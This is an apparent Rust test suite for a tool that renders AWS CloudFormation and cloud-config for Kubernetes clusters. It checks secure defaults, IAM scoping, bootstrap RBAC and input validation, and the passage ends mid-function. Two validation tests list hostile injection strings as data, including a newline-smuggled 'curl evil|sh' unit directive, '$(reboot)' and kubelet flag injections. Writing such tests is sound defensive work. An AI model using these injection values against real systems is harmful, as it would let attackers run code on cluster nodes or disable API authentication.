    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    for (role, prefix) in [
        ("IAMRoleController", "cloud-config-controller"),
        ("IAMRoleWorker", "cloud-config-worker"),
        ("IAMRoleEtcd", "cloud-config-etcd"),
    ] {
        let carried: BTreeSet<String> = rendered
            .cloud_configs
            .iter()
            .filter(|(name, _)| name.starts_with(prefix))
            .flat_map(|(_, text)| sealed_assets(text))
            .collect();
        assert!(!carried.is_empty(), "{role}");
        let statements =
            &stack["Resources"][role]["Properties"]["Policies"][0]["PolicyDocument"]["Statement"];
        let decrypt = statements
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["Action"] == "kms:Decrypt")
            .unwrap();
        let allowed = &decrypt["Condition"]["StringEquals"]["kms:EncryptionContext:kube-aws:asset"];
        let allowed: BTreeSet<String> = match allowed {
            Value::String(one) => BTreeSet::from([one.clone()]),
            Value::Array(many) => many
                .iter()
                .map(|v| v.as_str().unwrap().to_string())
                .collect(),
            other => panic!("{role}: no asset condition: {other}"),
        };
        assert_eq!(allowed, carried, "{role}");
    }
}

#[test]
fn secure_defaults_no_ssh_imdsv2_encrypted_volumes_and_opt_ins_render_as_asked() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let text = &rendered.stack_template;
    assert!(!text.contains("\"FromPort\": 22"), "no SSH rule by default");
    let template = stack(&rendered);
    let resources = template["Resources"].as_object().unwrap();
    let mut launch_configs = 0;
    for (id, r) in resources {
        let data = match r["Type"].as_str().unwrap() {
            "AWS::EC2::LaunchTemplate" => &r["Properties"]["LaunchTemplateData"],
            "AWS::EC2::Instance" => &r["Properties"],
            "AWS::EC2::Volume" => {
                assert_eq!(r["Properties"]["Encrypted"], true, "{id}");
                continue;
            }
            _ => continue,
        };
        launch_configs += 1;
        assert_eq!(data["MetadataOptions"]["HttpTokens"], "required", "{id}");
        assert_eq!(
            data["MetadataOptions"]["HttpPutResponseHopLimit"], 1,
            "{id}"
        );
        for device in data["BlockDeviceMappings"].as_array().unwrap() {
            assert_eq!(device["Ebs"]["Encrypted"], true, "{id}");
        }
        assert!(
            data.get("KeyName").is_none(),
            "{id}: no key pair unless configured"
        );
    }
    assert_eq!(
        launch_configs,
        1 + 1 + 4,
        "controller, etcd member, four pools"
    );

    let opted = config(
        "keyName: ops\nsshAccessAllowedSourceCIDRs: [203.0.113.0/24]\napiAccessAllowedSourceCIDRs: [198.51.100.0/24, 192.0.2.0/24]\nssmSessionManager: true\nebsKmsKeyArn: arn:aws:kms:us-west-2:1:key/ebs\n",
    );
    let rendered = render_with(&opted, &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    let r = &stack["Resources"];
    let ingress = r["SecurityGroupController"]["Properties"]["SecurityGroupIngress"]
        .as_array()
        .unwrap();
    let rules: Vec<(u64, &str)> = ingress
        .iter()
        .map(|i| {
            (
                i["FromPort"].as_u64().unwrap(),
                i["CidrIp"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        rules,
        vec![
            (443, "198.51.100.0/24"),
            (443, "192.0.2.0/24"),
            (22, "203.0.113.0/24")
        ]
    );
    assert!(ingress.iter().all(|i| i["Description"].is_string()));
    assert_eq!(
        r["SecurityGroupEtcd"]["Properties"]["SecurityGroupIngress"][0]["CidrIp"],
        "203.0.113.0/24"
    );
    assert_eq!(r["InstanceController"]["Properties"]["KeyName"], "ops");
    assert_eq!(
        r["InstanceController"]["Properties"]["BlockDeviceMappings"][0]["Ebs"]["KmsKeyId"],
        "arn:aws:kms:us-west-2:1:key/ebs"
    );
    assert_eq!(
        r["VolumeEtcd0"]["Properties"]["KmsKeyId"],
        "arn:aws:kms:us-west-2:1:key/ebs"
    );
    // Session Manager's agent actions inline, no AWS managed policy (AmazonSSMManagedInstanceCore
    // would add ssm:GetParameter(s) on every parameter of the account); the controllers carry
    // only the stack's own.
    for role in ["IAMRoleController", "IAMRoleWorker", "IAMRoleEtcd"] {
        let managed = r[role]["Properties"]["ManagedPolicyArns"]
            .as_array()
            .cloned();
        assert!(
            managed
                .unwrap_or_default()
                .iter()
                .all(|arn| arn["Ref"].is_string()),
            "{role}"
        );
        let statements = r[role]["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
            .as_array()
            .unwrap();
        let ssm = statements
            .iter()
            .find(|s| s["Sid"] == "SessionManagerWithoutParameterStore")
            .unwrap_or_else(|| panic!("{role}: {statements:#?}"));
        assert!(
            ssm["Action"]
                .as_array()
                .unwrap()
                .iter()
                .all(|a| a == "ssm:UpdateInstanceInformation"
                    || a.as_str().unwrap().starts_with("ssmmessages:")),
            "{ssm}"
        );
    }
}

const PRIVATE: &str = "subnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\nprivateSubnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.10.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.11.0/24\netcdCount: 3\n";

#[test]
fn private_subnets_hold_every_instance_behind_nat_and_public_ones_only_load_balancer_and_nat() {
    for (nat, gateways) in [
        ("", vec!["NatGateway0", "NatGateway1"]),
        ("natGateways: single\n", vec!["NatGateway0", "NatGateway0"]),
    ] {
        let rendered =
            render_with(&config(&format!("{PRIVATE}{nat}")), &Templates::built_in()).unwrap();
        let template = stack(&rendered);
        assert_references_resolve(&template);
        let r = template["Resources"].as_object().unwrap();
        assert!(
            !r.contains_key("InstanceController"),
            "controllers sit behind the load balancer"
        );
        assert!(!r.contains_key("EIPController"));
        for (id, resource) in r {
            if resource["Type"] == "AWS::AutoScaling::AutoScalingGroup" {
                for subnet in resource["Properties"]["VPCZoneIdentifier"]
                    .as_array()
                    .unwrap()
                {
                    assert!(
                        subnet["Ref"].as_str().unwrap().starts_with("PrivateSubnet"),
                        "{id}: {subnet}"
                    );
                }
            }
            if resource["Type"] == "AWS::EC2::Subnet" {
                assert_eq!(resource["Properties"]["MapPublicIpOnLaunch"], false, "{id}");
            }
        }
        for subnet in r["ElbAPIServer"]["Properties"]["Subnets"]
            .as_array()
            .unwrap()
        {
            assert!(
                subnet["Ref"].as_str().unwrap().starts_with("Subnet"),
                "{subnet}"
            );
        }
        let routes: Vec<&str> = (0..2)
            .map(|i| {
                r[&format!("PrivateRouteToNat{i}")]["Properties"]["NatGatewayId"]["Ref"]
                    .as_str()
                    .unwrap()
            })
            .collect();
        assert_eq!(routes, gateways);
        let nat_rules = r["SecurityGroupController"]["Properties"]["SecurityGroupIngress"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|rule| rule["CidrIp"].get("Fn::Join").is_some())
            .count();
        assert_eq!(
            nat_rules,
            if nat.is_empty() { 2 } else { 1 },
            "the nodes reach the API from their NAT addresses"
        );
        assert!(
            rendered.cloud_configs["cloud-config-worker"]
                .contains("- path: /etc/kubernetes/bootstrap-kubeconfig.yaml\n")
        );
        assert!(
            rendered.cloud_configs["cloud-config-worker"]
                .contains("server: https://api.demo.kube-aws.internal:443\n")
        );
    }
}

#[test]
fn existing_subnets_are_referenced_by_id_and_not_created() {
    let c = config(
        "vpcId: vpc-123\nsubnets:\n  - id: subnet-aaa\n    availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\ncontrollerCount: 3\n",
    );
    let rendered = render_with(&c, &Templates::built_in()).unwrap();
    let template = stack(&rendered);
    assert_references_resolve(&template);
    let r = &template["Resources"];
    assert!(
        r.get("Subnet0").is_none(),
        "the existing subnet is not created"
    );
    assert_eq!(r["Subnet1"]["Properties"]["CidrBlock"], "10.0.1.0/24");
    let zones = &r["AutoScaleWorkers"]["Properties"]["VPCZoneIdentifier"];
    assert_eq!(zones[0], "subnet-aaa");
    assert_eq!(zones[1]["Ref"], "Subnet1");
    assert_eq!(r["ElbAPIServer"]["Properties"]["Subnets"][0], "subnet-aaa");
}

#[test]
fn the_controller_role_writes_only_to_this_clusters_resources_and_reads_only_its_addons() {
    let c = config("ebsKmsKeyArn: arn:aws:kms:us-west-2:1:key/ebs\n");
    let rendered = render_with(&c, &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    let statements = role_statements(&stack, "IAMRoleController");
    let actions = |s: &Value| one_or_many(&s["Action"]);
    let read_only = |action: &str| {
        let verb = action.split(':').nth(1).unwrap();
        ["Describe", "Get", "List"]
            .iter()
            .any(|p| verb.starts_with(p))
            || matches!(
                action,
                "ecr:BatchCheckLayerAvailability" | "ecr:BatchGetImage"
            )
    };
    let cluster_conditions = [
        "aws:RequestTag/kubernetes.io/cluster/demo",
        "aws:ResourceTag/kubernetes.io/cluster/demo",
        "aws:RequestTag/ebs.csi.aws.com/cluster-name",
        "ec2:ResourceTag/ebs.csi.aws.com/cluster-name",
    ];
    let mut writes = 0;
    for s in &statements {
        let all: Vec<String> = actions(s);
        // A Deny only takes away: what it names needs no scope of its own.
        if all.iter().all(|a| read_only(a))
            || s["Sid"] == "SignalItsOwnAndEachNewWorkersHealth"
            || s["Effect"] == "Deny"
        {
            continue;
        }
        writes += 1;
        let resources = s["Resource"].to_string();
        assert!(
            !resources.contains("\"*\""),
            "a write on every resource: {s}"
        );
        let condition = s["Condition"].to_string();
        let scoped = cluster_conditions.iter().any(|k| condition.contains(k))
            || condition.contains("\"demo\"")
            || condition.contains(":CreateAction")
            || condition.contains("kms:GrantIsForAWSResource")
            || condition.contains("kms:ViaService")
            || condition.contains("iam:AWSServiceName")
            // A security group is created in the cluster's VPC (the group itself needs the tag).
            || (all == ["ec2:CreateSecurityGroup"] && resources.contains(":vpc/${Vpc}"))
            || s["Sid"] == "FetchTheAddonManifests";
        assert!(scoped, "a write not scoped to this cluster: {s}");
        // Tagging is how a resource becomes this cluster's: only at creation, or on what is
        // already owned, else the role could adopt any load balancer or group in the account.
        if all
            .iter()
            .any(|a| a.ends_with(":AddTags") || a.ends_with(":CreateTags"))
        {
            assert!(
                condition.contains("CreateAction")
                    || condition.contains("aws:ResourceTag/kubernetes.io/cluster/demo"),
                "tags any resource: {s}"
            );
        }
    }
    assert!(writes >= 8, "{statements:#?}");

    let fetch = statements
        .iter()
        .find(|s| s["Sid"] == "FetchTheAddonManifests")
        .expect("the add-on read statement");
    assert_eq!(actions(fetch), ["s3:GetObject"]);
    let readable = fetch["Resource"].to_string();
    for object in &rendered.addon_objects {
        assert!(
            readable.contains(&format!("demo-artifacts/{}", object.key)),
            "{readable}"
        );
    }
    assert_eq!(
        fetch["Resource"].as_array().unwrap().len(),
        rendered.addon_objects.len()
    );
    let storage_class = &rendered.manifests["aws-ebs-csi-driver.yaml"];
    assert!(storage_class.contains("kmsKeyId: arn:aws:kms:us-west-2:1:key/ebs"));
}

#[test]
fn kubelets_leave_node_initialisation_to_the_cloud_controller_manager() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    for (name, text) in &rendered.cloud_configs {
        if name.starts_with("cloud-config-etcd") {
            continue;
        }
        assert!(
            kubelet_command(text).contains(" --cloud-provider=external"),
            "{name}"
        );
    }
    // Controllers register already excluded from load balancers: the cloud controller may not
    // open their group, and would try in the window before a later label.
    let controller = kubelet_command(&rendered.cloud_configs["cloud-config-controller"]);
    assert!(
        controller
            .contains("--node-labels=node.kubernetes.io/exclude-from-external-load-balancers= "),
        "{controller}"
    );
    let ccm = &rendered.manifests["aws-cloud-controller-manager.yaml"];
    assert!(ccm.contains("KubernetesClusterID = demo"), "{ccm}");
    assert!(ccm.contains("- --configure-cloud-routes=false"), "{ccm}");
    assert!(ccm.contains("hostNetwork: true"), "{ccm}");
    let stack = stack(&rendered);
    let tags = |id: &str| stack["Resources"][id]["Properties"]["Tags"].to_string();
    assert!(
        tags("Subnet0").contains("\"Key\":\"kubernetes.io/cluster/demo\",\"Value\":\"owned\""),
        "{}",
        tags("Subnet0")
    );
    // The workers' group carries the cluster tag the cloud controller finds a target's group
    // by, but shared: its role may delete only groups it created (owned).
    assert!(
        tags("SecurityGroupWorker")
            .contains("\"Key\":\"kubernetes.io/cluster/demo\",\"Value\":\"shared\""),
        "{}",
        tags("SecurityGroupWorker")
    );
    for id in ["SecurityGroupEtcd", "SecurityGroupController"] {
        assert!(
            !tags(id).contains("kubernetes.io/cluster/"),
            "{id}: etcd members are not nodes, controllers no load balancer's targets"
        );
    }
    for id in ["AutoScaleWorkers", "AutoScaleGpu"] {
        assert!(
            tags(id).contains("\"Key\":\"ebs.csi.aws.com/cluster-name\""),
            "{id}"
        );
    }
}

#[test]
fn rendering_needs_a_bucket_for_the_addons() {
    let text = "clusterName: demo\nexternalDNSName: k8s.example.com\nregion: us-west-2\navailabilityZone: us-west-2a\nkmsKeyArn: arn:aws:kms:us-west-2:1:key/x\n";
    let c = ClusterConfig::parse(Path::new("cluster.yaml"), text).unwrap();
    let e = render_with(&c, &Templates::built_in()).unwrap_err();
    assert!(
        e.to_string()
            .starts_with("cluster.yaml: templateBucket: required with the local state backend"),
        "{e}"
    );
}

#[test]
fn the_api_can_sit_behind_an_internal_or_internet_facing_network_load_balancer() {
    let private = "subnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\nprivateSubnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.10.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.11.0/24\n";
    for (extra, scheme, subnets) in [
        (
            format!("apiEndpointLoadBalancer: {{scheme: internal}}\n{private}"),
            "internal",
            vec!["PrivateSubnet0", "PrivateSubnet1"],
        ),
        (
            "apiEndpointLoadBalancer: {type: network}\n".to_string(),
            "internet-facing",
            vec!["Subnet0"],
        ),
    ] {
        let rendered = render_with(&config(&extra), &Templates::built_in()).unwrap();
        let stack = stack(&rendered);
        assert_references_resolve(&stack);
        let resources = &stack["Resources"];
        assert!(resources.get("ElbAPIServer").is_none());
        assert!(
            resources.get("InstanceController").is_none(),
            "controllers move behind it"
        );
        let nlb = &resources["NlbAPIServer"]["Properties"];
        assert_eq!(nlb["Type"], "network");
        assert_eq!(nlb["Scheme"], scheme);
        let refs: Vec<&str> = nlb["Subnets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["Ref"].as_str().unwrap())
            .collect();
        assert_eq!(refs, subnets);
        assert_eq!(nlb["SecurityGroups"][0]["Ref"], "SecurityGroupController");
        let targets = &resources["NlbAPIServerTargets"]["Properties"];
        assert_eq!(
            (targets["Protocol"].as_str(), targets["Port"].as_u64()),
            (Some("TCP"), Some(443))
        );
        assert!(
            targets["TargetGroupAttributes"]
                .to_string()
                .contains(r#"{"Key":"preserve_client_ip.enabled","Value":"false"}"#)
        );
        assert_eq!(
            resources["AutoScaleController"]["Properties"]["TargetGroupARNs"][0]["Ref"],
            "NlbAPIServerTargets"
        );
        assert_eq!(
            stack["Outputs"]["ControllerEndpoint"]["Value"]["Fn::GetAtt"][0],
            "NlbAPIServer"
        );
        // Nodes reach the API by the stack's own name for it, pointed at the load balancer.
        assert!(
            rendered.cloud_configs["cloud-config-worker"]
                .contains("server: https://api.demo.kube-aws.internal:443")
        );
        let record = &stack["Resources"]["APIEndpointRecord"]["Properties"];
        assert_eq!(record["Type"], "CNAME");
        assert_eq!(
            record["ResourceRecords"][0]["Fn::GetAtt"],
            serde_json::json!(["NlbAPIServer", "DNSName"])
        );
    }
    // Without the setting, several controllers keep the classic ELB of earlier releases.
    let classic = render_with(&config("controllerCount: 2\n"), &Templates::built_in()).unwrap();
    assert!(stack(&classic)["Resources"].get("ElbAPIServer").is_some());
    assert!(stack(&classic)["Resources"].get("NlbAPIServer").is_none());
}

/// The flags a static pod's container is started with in a rendered cloud-config: every
/// `- --flag=value` line of the manifest that runs `binary`.
fn pod_flags(cloud_config: &str, binary: &str) -> Vec<String> {
    let mut flags = Vec::new();
    let mut inside = false;
    for line in cloud_config.lines() {
        let line = line.trim();
        if line.strip_prefix("- ") == Some(binary) {
            inside = true;
            continue;
        }
        if inside {
            match line.strip_prefix("- --") {
                Some(flag) => flags.push(format!("--{flag}")),
                None if line.starts_with('#') => {}
                None => break,
            }
        }
    }
    flags
}

#[test]
fn tls_bootstrap_ties_the_token_group_to_its_bindings_and_the_apiserver_flags() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let token: serde_norway::Value =
        serde_norway::from_str(&rendered.manifests["bootstrap-token.yaml"]).unwrap();
    let data = &token["stringData"];
    assert_eq!(token["type"], "bootstrap.kubernetes.io/token");
    assert_eq!(token["metadata"]["namespace"], "kube-system");
    // The API server finds a token by the Secret's name `bootstrap-token-<token-id>`.
    assert_eq!(token["metadata"]["name"], "bootstrap-token-${TOKEN_ID}");
    assert_eq!(data["token-id"], "${TOKEN_ID}");
    assert_eq!(data["usage-bootstrap-authentication"], "true");
    let group = data["auth-extra-groups"].as_str().unwrap();
    // kube-apiserver accepts extra groups of a bootstrap token only under this prefix.
    assert!(group.starts_with("system:bootstrappers:"), "{group}");

    let bindings: Vec<serde_norway::Value> =
        serde_norway::Deserializer::from_str(&rendered.manifests["node-bootstrap.yaml"])
            .map(|d| serde::Deserialize::deserialize(d).unwrap())
            .collect();
    let bound_to_group = |role: &str| {
        bindings.iter().any(|b| {
            b["kind"] == "ClusterRoleBinding"
                && b["roleRef"]["name"] == role
                && b["subjects"]
                    .as_sequence()
                    .unwrap()
                    .iter()
                    .any(|s| s["kind"] == "Group" && s["name"].as_str() == Some(group))
        })
    };
    // The token's holders may create a CSR; kube-controller-manager approves none of theirs
    // (node-csr-approver does, for the instance that sent it), and apply-addons removes the
    // binding earlier templates made for that.
    assert!(bound_to_group("system:node-bootstrapper"), "{bindings:?}");
    assert!(
        !bound_to_group("system:certificates.k8s.io:certificatesigningrequests:nodeclient"),
        "{bindings:?}"
    );
    let approver_rules = bindings
        .iter()
        .find(|b| {
            b["kind"] == "ClusterRole" && b["metadata"]["name"] == "kube-aws:node-csr-approver"
        })
        .map(|r| serde_json::to_value(&r["rules"]).unwrap())
        .expect("the approver's ClusterRole");
    assert_eq!(
        approver_rules,
        serde_json::json!([
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["get", "list", "watch"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests/approval"], "verbs": ["update"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["signers"], "resourceNames": ["kubernetes.io/kube-apiserver-client-kubelet"], "verbs": ["approve"]},
        ])
    );

    let controller = &rendered.cloud_configs["cloud-config-controller"];
    assert!(
        rendered.manifests["node-csr-approver"]
            .contains("kubectl --as=kube-aws:node-csr-approver \"$@\"")
    );
    assert!(
        controller.contains("ExecStart=/usr/bin/bash /etc/kubernetes/addons/node-csr-approver")
    );
    assert!(controller.contains(
        "kubectl delete clusterrolebinding kube-aws:node-autoapprove-bootstrap --ignore-not-found"
    ));
    let apiserver = pod_flags(controller, "kube-apiserver");
    assert!(
        apiserver.contains(&"--enable-bootstrap-token-auth=true".to_string()),
        "{apiserver:?}"
    );
    assert!(
        apiserver.contains(&"--authorization-mode=Node,RBAC".to_string()),
        "{apiserver:?}"
    );
    // The controller manager signs the approved CSRs with the cluster CA and runs the
    // approver (in `*`) and the token cleaner.
    let manager = pod_flags(controller, "kube-controller-manager");
    let controllers = manager
        .iter()
        .find_map(|f| f.strip_prefix("--controllers="))
        .unwrap_or_else(|| panic!("{manager:?}"));
    for wanted in ["*", "tokencleaner"] {
        assert!(controllers.split(',').any(|c| c == wanted), "{controllers}");
    }
    assert!(
        !controllers
            .split(',')
            .any(|c| c == "-csrapproving" || c == "-csrsigning")
    );
    for flag in [
        "--cluster-signing-cert-file=/etc/kubernetes/ssl/ca.pem",
        "--cluster-signing-key-file=/etc/kubernetes/ssl/ca-key.pem",
    ] {
        assert!(manager.contains(&flag.to_string()), "{manager:?}");
    }
}

#[test]
fn the_cloud_controller_cannot_mint_tokens_and_the_bootstrap_token_expires_unless_renewed() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let docs: Vec<serde_norway::Value> = serde_norway::Deserializer::from_str(
        &rendered.manifests["aws-cloud-controller-manager.yaml"],
    )
    .map(|d| serde::Deserialize::deserialize(d).unwrap())
    .collect();
    // A stolen controller node identity can read the cloud controller's token (its pod runs
    // there): that token may not reach service accounts, their tokens or Secrets.
    let mut rules = 0;
    for doc in docs
        .iter()
        .filter(|d| d["kind"] == "ClusterRole" || d["kind"] == "Role")
    {
        for rule in doc["rules"].as_sequence().unwrap() {
            rules += 1;
            for resource in rule["resources"].as_sequence().unwrap() {
                let resource = resource.as_str().unwrap();
                assert!(
                    !resource.starts_with("serviceaccounts")
                        && resource != "secrets"
                        && resource != "*",
                    "the cloud controller may reach {resource}"
                );
            }
        }
    }
    assert!(rules >= 5);
    let manager = &rendered.manifests["aws-cloud-controller-manager.yaml"];
    assert!(manager.contains("- --use-service-account-credentials=false"));

    let token: serde_norway::Value =
        serde_norway::from_str(&rendered.manifests["bootstrap-token.yaml"]).unwrap();
    assert_eq!(token["stringData"]["expiration"], "${EXPIRATION}");
    let controller = &rendered.cloud_configs["cloud-config-controller"];
    assert!(controller.contains("OnCalendar=daily"), "the renewal timer");
    assert!(controller.contains("ExecStart=/opt/bin/apply-bootstrap-token"));
}

/// Hostile strings in every field that reaches a unit's command line are refused at that
/// field; accepted ones (Kubernetes' full syntax) leave the kubelet's argv as it was, with the
/// value inside its own argument.
#[test]
fn nothing_from_cluster_yaml_changes_the_kubelets_argv() {
    let hostile = [
        "x --anonymous-auth=true --authorization-mode=AlwaysAllow",
        "x\nExecStartPre=/bin/sh -c \"curl evil|sh\"",
        "$(reboot)",
        "${NODE_NAME}",
        "%h",
        "a;b",
        "a\"b",
        "a'b",
        "a\\b",
        "a,b=c",
        "a b",
        "-lead",
    ];
    let pool = |labels: &str, taints: &str| {
        format!("nodePools:\n  - name: p\n    labels: {labels}\n    taints: {taints}\n")
    };
    for value in hostile {
        let quoted = serde_json::to_string(value).unwrap();
        for (extra, field) in [
            (
                pool(&format!("{{team: {quoted}}}"), "[]"),
                "nodePools[0].labels.team".to_string(),
            ),
            (
                pool(&format!("{{{quoted}: a}}"), "[]"),
                format!("nodePools[0].labels.{value}"),
            ),
            (
                pool(
                    "{}",
                    &format!("[{{key: k, value: {quoted}, effect: NoSchedule}}]"),
                ),
                "nodePools[0].taints[0].value".to_string(),
            ),
            (
                pool("{}", &format!("[{{key: {quoted}, effect: NoSchedule}}]")),
                "nodePools[0].taints[0].key".to_string(),
            ),
            (
                format!("etcdSnapshotSchedule: {quoted}\n"),
                "etcdSnapshotSchedule".to_string(),
            ),
        ] {
            let text = format!(
                "clusterName: demo\nexternalDNSName: k8s.example.com\nregion: us-west-2\navailabilityZone: us-west-2a\nkmsKeyArn: arn:aws:kms:us-west-2:1:key/x\ntemplateBucket: demo-artifacts\n{extra}"
            );
            let err = ClusterConfig::parse(Path::new("cluster.yaml"), &text)
                .expect_err(&format!("{value:?} accepted in {field}"));
            assert!(
                err.problems
                    .iter()
                    .any(|p| p.field == field && p.line.is_some()),
                "{value:?} in {field}: {err}"
            );
        }
    }
    // Accepted values: the kubelet's argv keeps its words, the values inside theirs.
    let plain = render_with(&config(&pool("{team: a}", "[]")), &Templates::built_in()).unwrap();
    let tricky = render_with(
        &config(&pool(
            "{example.com/team: A.b-c_9, tier: \"\"}",
            "[{key: example.com/dedicated, value: x_y.z-1, effect: NoExecute}]",
        )),
        &Templates::built_in(),
    )
    .unwrap();
    let argv = |r: &Rendered| -> Vec<String> {
        kubelet_command(&r.cloud_configs["cloud-config-worker-p"])
            .split_whitespace()
            .map(|w| w.split('=').next().unwrap().to_string())
            .collect()
    };
    let tricky_argv = argv(&tricky);
    assert_eq!(tricky_argv.len(), argv(&plain).len() + 1, "{tricky_argv:?}");
    let command = kubelet_command(&tricky.cloud_configs["cloud-config-worker-p"]);
    assert!(
        command.contains("example.com/team=A.b-c_9,")
            && command.contains("--register-with-taints=example.com/dedicated=x_y.z-1:NoExecute"),
        "{command}"
    );
}

/// Every string field of cluster.yaml set to a value that would start a line of its own (a
/// unit directive, a cloud-config file, an environment line): refused at that field, or
/// rendered with the value kept inside its own line everywhere (cloud-configs, the stack
/// template, add-on manifests).
#[test]
fn no_string_from_cluster_yaml_starts_a_line_of_its_own_in_anything_rendered() {
    let base = [
        ("clusterName", "demo"),
        ("externalDNSName", "k8s.example.com"),
        ("region", "us-west-2"),
        ("availabilityZone", "us-west-2a"),
        ("kmsKeyArn", "arn:aws:kms:us-west-2:1:key/x"),
        ("templateBucket", "demo-artifacts"),
    ];
    let top_level = [
        "clusterName",
        "externalDNSName",
        "region",
        "availabilityZone",
        "keyName",
        "kmsKeyArn",
        "ebsKmsKeyArn",
        "hostedZoneId",
        "hostedZone",
        "vpcId",
        "routeTableId",
        "controllerInstanceType",
        "controllerRootVolumeType",
        "etcdInstanceType",
        "etcdDataVolumeType",
        "etcdSnapshotSchedule",
        "workerInstanceType",
        "workerRootVolumeType",
        "workerSpotPrice",
        "controllerCreateTimeout",
        "workerCreateTimeout",
        "etcdCreateTimeout",
        "kubernetesVersion",
        "amiId",
        "templateBucket",
        "planSigningKeyArn",
        "vpcCIDR",
        "instanceCIDR",
        "serviceCIDR",
        "podCIDR",
        "dnsServiceIP",
    ];
    let lines = [
        "ExecStartPre=/bin/sh -c pwned",
        "- path: /etc/pwned",
        "PWNED=1",
    ];
    let hostile: Vec<String> = lines
        .iter()
        .flat_map(|line| {
            [
                format!("x\n{line}"),
                format!("x\r\n{line}"),
                format!("x\n  {line}"),
            ]
        })
        .chain(
            // Shell metacharacters: refused, or kept out of the cloud-configs (the scripts).
            [
                "x$(touch /tmp/pwned)",
                "x`id`",
                "x\"; id; \"",
                "x'; id; '",
                "x;id",
            ]
            .map(String::from),
        )
        .collect();
    let nested = |value: &str| -> Vec<(String, String)> {
        let q = serde_json::to_string(value).unwrap();
        vec![
            (format!("stackTags: {{team: {q}}}\n"), "stackTags".into()),
            (
                format!("nodePools:\n  - name: {q}\n"),
                "nodePools[0].name".into(),
            ),
            (
                format!("nodePools:\n  - name: p\n    instanceType: {q}\n"),
                "nodePools[0].instanceType".into(),
            ),
            (
                format!("nodePools:\n  - name: p\n    spotPrice: {q}\n"),
                "nodePools[0].spotPrice".into(),
            ),
            (
                format!("apiAccessAllowedSourceCIDRs: [{q}]\n"),
                "apiAccessAllowedSourceCIDRs[0]".into(),
            ),
            (
                format!("nodePools:\n  - name: p\n    managedPolicies: [{q}]\n"),
                "nodePools[0].managedPolicies[0]".into(),
            ),
        ]
    };
    let mut accepted = std::collections::BTreeSet::new();
    for value in &hostile {
        let q = serde_json::to_string(value).unwrap();
        let mut cases: Vec<(String, String)> = top_level
            .iter()
            .map(|field| {
                let text: String = base
                    .iter()
                    .filter(|(k, _)| k != field)
                    .map(|(k, v)| format!("{k}: {v}\n"))
                    .chain(std::iter::once(format!("{field}: {q}\n")))
                    .collect();
                (text, field.to_string())
            })
            .collect();
        let base_text: String = base.iter().map(|(k, v)| format!("{k}: {v}\n")).collect();
        cases.extend(
            nested(value)
                .into_iter()
                .map(|(extra, field)| (format!("{base_text}{extra}"), field)),
        );
        for (text, field) in cases {
            let config = match ClusterConfig::parse(Path::new("cluster.yaml"), &text) {
                Err(err) => {
                    assert!(
                        err.problems.iter().any(|p| p.field.starts_with(&field)),
                        "{value:?} in {field} refused elsewhere: {err}"
                    );
                    continue;
                }
                Ok(config) => config,
            };
            let Ok(rendered) = render_with(&config, &Templates::built_in()) else {
                continue;
            };
            accepted.insert(field.clone());
            for (name, cloud_config) in &rendered.cloud_configs {
                assert!(
                    !cloud_config.contains(value.as_str()),
                    "{value:?} in {field} is written as it is into {name}"
                );
            }
            let files = rendered
                .cloud_configs
                .values()
                .chain(std::iter::once(&rendered.stack_template))
                .chain(rendered.pool_stacks.values().map(|p| &p.template))
                .chain(rendered.manifests.values());
            for file in files {
                for line in file.lines() {
                    let line = line.trim_start().trim_end_matches('\r');
                    assert!(
                        !lines.iter().any(|l| line.starts_with(l)),
                        "{value:?} in {field} starts a line of its own: {line}"
                    );
                }
            }
        }
    }
    // What is accepted at all is data kept out of the scripts (stack tags, managed policy
    // names end up only in the template's JSON).
    println!("accepted, kept out of scripts: {accepted:?}");
}

/// The example CloudFormation service role refuses to change what is not this cluster's by its
/// `KubernetesCluster` tag. That holds only where every such resource the stacks create carries
/// the tag from its first call (else CloudFormation's own follow-up calls on it would be
/// refused), which AWS's resource schemas say per type (`data/tag-on-create.json`).
#[test]
fn the_service_roles_tag_guard_covers_only_types_tagged_as_created_and_each_is_tagged() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let read = |path: &str| -> Value {
        serde_json::from_str(&std::fs::read_to_string(root.join(path)).unwrap()).unwrap()
    };
    let policy = read("examples/iam/cloudformation-role-policy.json");
    let schemas = read("data/tag-on-create.json");
    let guarded_type = |arn: &str| -> &'static str {
        let kind = arn.split(':').nth(5).unwrap();
        match kind.split('/').next().unwrap() {
            "volume" => "AWS::EC2::Volume",
            "instance" => "AWS::EC2::Instance",
            "security-group" => "AWS::EC2::SecurityGroup",
            "vpc" => "AWS::EC2::VPC",
            "subnet" => "AWS::EC2::Subnet",
            "route-table" => "AWS::EC2::RouteTable",
            "internet-gateway" => "AWS::EC2::InternetGateway",
            "natgateway" => "AWS::EC2::NatGateway",
            "elastic-ip" => "AWS::EC2::EIP",
            "autoScalingGroup" => "AWS::AutoScaling::AutoScalingGroup",
            "loadbalancer"
                if kind.starts_with("loadbalancer/net/")
